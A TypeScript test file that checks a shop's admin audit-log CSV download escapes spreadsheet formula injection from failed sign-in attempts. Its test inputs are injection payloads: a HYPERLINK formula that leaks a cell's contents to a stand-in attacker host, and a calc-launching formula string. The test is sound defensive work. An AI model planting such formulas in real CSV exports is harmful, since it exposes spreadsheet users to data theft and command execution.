/**
 * The audit trail's CSV download (GET /api/admin/audit.csv) writes its cells through the shop's one CSV
 * writer (@nh/server/csv): text that came from a request (the email typed at a failed sign-in, which is
 * also the record id of an unknown account, the user agent, the request id) never reaches a manager's
 * spreadsheet as a live formula. The order export, the shop's other CSV, is tested the same way with
 * the worker that writes it (workers/test/exports.test.ts, "exports every order of the store").
 */
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AUDIT_CSV_COLUMNS } from '@nh/shared/contracts/audit';
import { parseCsv } from '@nh/server/testing/csv';
import { startTestApi, type TestApi } from './support/harness';
import { signInAs, type StaffClient } from './support/staff';

let api: TestApi;
let owner: StaffClient;

beforeAll(async () => {
  api = await startTestApi();
  owner = await signInAs(api, 'owner');
});
afterAll(() => api.close());

const column = (name: (typeof AUDIT_CSV_COLUMNS)[number]) => AUDIT_CSV_COLUMNS.indexOf(name);

describe('the audit CSV', () => {
  it('neutralises the cells a stranger writes with a failed staff sign-in (email, record id, user agent, request id)', async () => {
    const tag = randomUUID().slice(0, 8);
    const email = `=HYPERLINK("http://evil.example/${tag}","open")@evil.example`;
    const userAgent = `=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")`;
    // A request id may only hold id characters, and those still make a formula.
    const requestId = `=2+5+cmd:calc@A0-${tag}`;
    const failed = await api.request('/api/admin/session', {
      method: 'POST',
      body: { email, password: 'wrong password 1' },
      headers: { 'user-agent': userAgent, 'x-request-id': requestId },
    });
    expect(failed.status).toBe(401);

    const res = await owner.request('/api/admin/audit.csv?action=staff.sign_in_failed');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const rows = parseCsv(await res.text());
    expect(rows[0]).toEqual([...AUDIT_CSV_COLUMNS]);
    const row = rows.find((r) => r[column('Request id')]!.endsWith(tag));
    expect(row).toBeDefined();
    expect(row![column('Action')]).toBe('Failed sign-in');
    expect(row![column('Staff')]).toBe(`'${email.toLowerCase()}`);
    expect(row![column('Record id')]).toBe(`'${email.toLowerCase()}`);
    expect(row![column('User agent')]).toBe(`'${userAgent}`);
    expect(row![column('Request id')]).toBe(`'${requestId}`);
    // No cell of the download starts a formula.
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
  });
});
